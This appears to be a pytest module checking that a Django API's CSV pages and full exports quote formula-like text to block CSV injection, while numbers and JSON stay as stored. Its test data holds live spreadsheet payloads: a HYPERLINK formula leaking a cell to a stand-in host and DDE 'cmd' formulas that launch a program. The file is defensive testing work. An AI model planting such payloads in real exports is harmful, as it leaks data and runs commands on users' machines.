"""CSV that cannot attack a spreadsheet (OWASP, CSV injection): text that a spreadsheet would run as a formula is
written as text in every CSV the API gives, in pages and in full exports (on PostgreSQL the figures' full export is
written by COPY: these tests run it there), while numbers stay numbers and JSON stays as stored."""

import csv
import io
import re
from decimal import Decimal, InvalidOperation

import pytest
from django.utils import timezone

from coverage.models import Indicator, Measurement, Partnership, Region, Source

from ..factories import UserFactory
from ..helpers import EDITING, csv_rows, token_client

pytestmark = pytest.mark.django_db

# A cell starting with one of these runs as a formula (OWASP). Kept here, not imported from the code under test.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A2,"Detail")',
    "plus": "+SUM(1,1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    # Excel in Bahasa Indonesia splits a CSV file at semicolons: the formula would start a cell of its own there.
    "after-a-semicolon": 'Kota Contoh;=HYPERLINK("https://evil.example/","Detail")',
}

# Where the hostile text of the `hostile` fixture shows up: each CSV page or answer, and its columns.
PAGES = [
    ("/api/v1/regions/", ["name"]),
    ("/api/v1/indicators/", ["name", "name_en", "population", "description"]),
    ("/api/v1/sources/", ["title", "publisher", "url", "note"]),
    ("/api/v1/partnerships/", ["name", "description"]),
    ("/api/v1/measurements/", ["region_name", "verified_by"]),
    ("/api/v1/measurements/?known_at={now}", ["region_name", "verified_by"]),
    ("/api/v1/measurements/{figure}/history/", ["user"]),
    ("/api/v1/indicators/kia-ownership/ranking/?parent=64", ["region_name"]),
    ("/api/v1/indicators/ikd-activation/attainment/?region=64&year=2024&children=true", ["region_name"]),
    ("/api/v1/regions/64/summary/", ["indicator_name", "highest.region_name", "lowest.region_name"]),
]
# The streamed full exports (?page_size=all) with text in them; on PostgreSQL the figures' one is COPY's.
EXPORTS = [
    ("/api/v1/regions/", ["name"]),
    ("/api/v1/sources/", ["title", "publisher", "url", "note"]),
    ("/api/v1/measurements/", ["region_name", "verified_by"]),
    ("/api/v1/measurements/?ordering=-value", ["region_name", "verified_by"]),
    ("/api/v1/measurements/?known_at={now}", ["region_name", "verified_by"]),
]


@pytest.fixture(params=list(HOSTILE))
def hostile(request, article):
    """The article's data with one hostile text in every text field a client can store: the names and descriptions
    of regions, indicators and partnerships and the source's fields, stored directly (the API trims a leading tab or
    carriage return, but a stored text may still start with one; partnerships are read-only in the API),
    and the username of a user who publishes a figure through the API (verified_by, and the history). Synthetic."""
    text = HOSTILE[request.param]
    Region.objects.update(name=text)
    Indicator.objects.update(name=text, name_en=text, population=text, description=text)
    Source.objects.update(title=text, publisher=text, url=text, note=text)
    Partnership.objects.update(name=text, description=text)
    publisher = token_client(UserFactory(username=text, permissions=[*EDITING, "publish_measurement"]))
    figure = Measurement.objects.get(region__code="64.71", indicator__code="kia-ownership")
    response = publisher.patch(f"/api/v1/measurements/{figure.pk}/", {"value": 96.95}, format="json")
    assert response.status_code == 200, response.json()
    return text, figure


def url(path, figure):
    return path.format(figure=figure.pk, now=timezone.now().isoformat().replace("+", "%2B"))


def with_params(path, **params):
    return path + ("&" if "?" in path else "?") + "&".join(f"{name}={value}" for name, value in params.items())


def column(rows, name):
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def is_number(cell):
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def formulas(rows):
    """The cells a spreadsheet would run: text, not a number, starting with a trigger, also where Excel set to Bahasa
    Indonesia splits a cell at its semicolons."""
    return [
        part
        for row in rows
        for cell in row
        for part in cell.split(";")
        if part.startswith(TRIGGERS) and not is_number(part)
    ]


def written(text):
    """How a CSV must write ``text``: a quote before a trigger at its start and after each semicolon."""
    text = re.sub(r";([=+\-@\t\r])", r";'\1", text)
    return "'" + text if text.startswith(TRIGGERS) else text


def strings(data):
    if isinstance(data, dict):
        return [text for value in data.values() for text in strings(value)]
    if isinstance(data, list):
        return [text for value in data for text in strings(value)]
    return [data] if isinstance(data, str) else []


@pytest.mark.parametrize(("path", "columns"), PAGES, ids=[path for path, _columns in PAGES])
def test_text_that_starts_like_a_formula_is_quoted_as_text_in_every_csv_page(hostile, editor, path, columns):
    text, figure = hostile

    rows = csv_rows(editor.get(with_params(url(path, figure), format="csv")))

    assert formulas(rows) == []
    for name in columns:
        assert written(text) in column(rows, name), name


@pytest.mark.parametrize(("path", "columns"), EXPORTS, ids=[path for path, _columns in EXPORTS])
def test_text_that_starts_like_a_formula_is_quoted_as_text_in_every_full_export(hostile, editor, path, columns):
    text, figure = hostile

    response = editor.get(with_params(url(path, figure), format="csv", page_size="all"))

    assert response.streaming
    rows = csv_rows(response)
    assert formulas(rows) == []
    for name in columns:
        assert written(text) in column(rows, name), name


def test_the_full_export_of_formula_like_text_is_byte_for_byte_the_page_it_gives(hostile, editor):
    # On PostgreSQL the full export is written by COPY, the page by Python: the same rule, the same bytes.
    text, _figure = hostile
    params = {"format": "csv", "status": "draft,verified,published", "ordering": "updated_at"}

    full = editor.get("/api/v1/measurements/", {**params, "page_size": "all"})
    page = editor.get("/api/v1/measurements/", {**params, "page_size": 1000})

    exported = b"".join(full.streaming_content)
    assert exported == page.content
    rows = list(csv.reader(io.StringIO(exported.decode(), newline="")))
    assert written(text) in column(rows, "region_name")
    assert written(text) in column(rows, "verified_by")


@pytest.mark.parametrize("path", [path for path, _columns in PAGES])
def test_json_keeps_the_text_as_it_was_stored(hostile, editor, path):
    text, figure = hostile

    response = editor.get(url(path, figure))

    assert response.status_code == 200, response.content
    found = strings(response.json())
    assert text in found
    assert "'" + text not in found


def test_a_negative_gap_stays_a_number_in_csv(article, api):
    rows = csv_rows(
        api.get("/api/v1/indicators/ikd-activation/attainment/", {"region": "64", "year": 2024, "format": "csv"})
    )

    assert column(rows, "gap") == ["-25.52"]


def test_an_export_with_formula_like_names_and_verifier_imports_back_unchanged(hostile, editor):
    exported = editor.get("/api/v1/measurements/", {"format": "csv", "page_size": "all"})
    content = b"".join(exported.streaming_content)
    figures = len(list(csv.reader(io.StringIO(content.decode(), newline="")))) - 1

    response = editor.post("/api/v1/measurements/import/", {"file": io.BytesIO(content)}, format="multipart")

    assert response.status_code == 200, response.json()
    assert figures > 0
    assert (response.json()["unchanged"], response.json()["created"], response.json()["updated"]) == (figures, 0, 0)
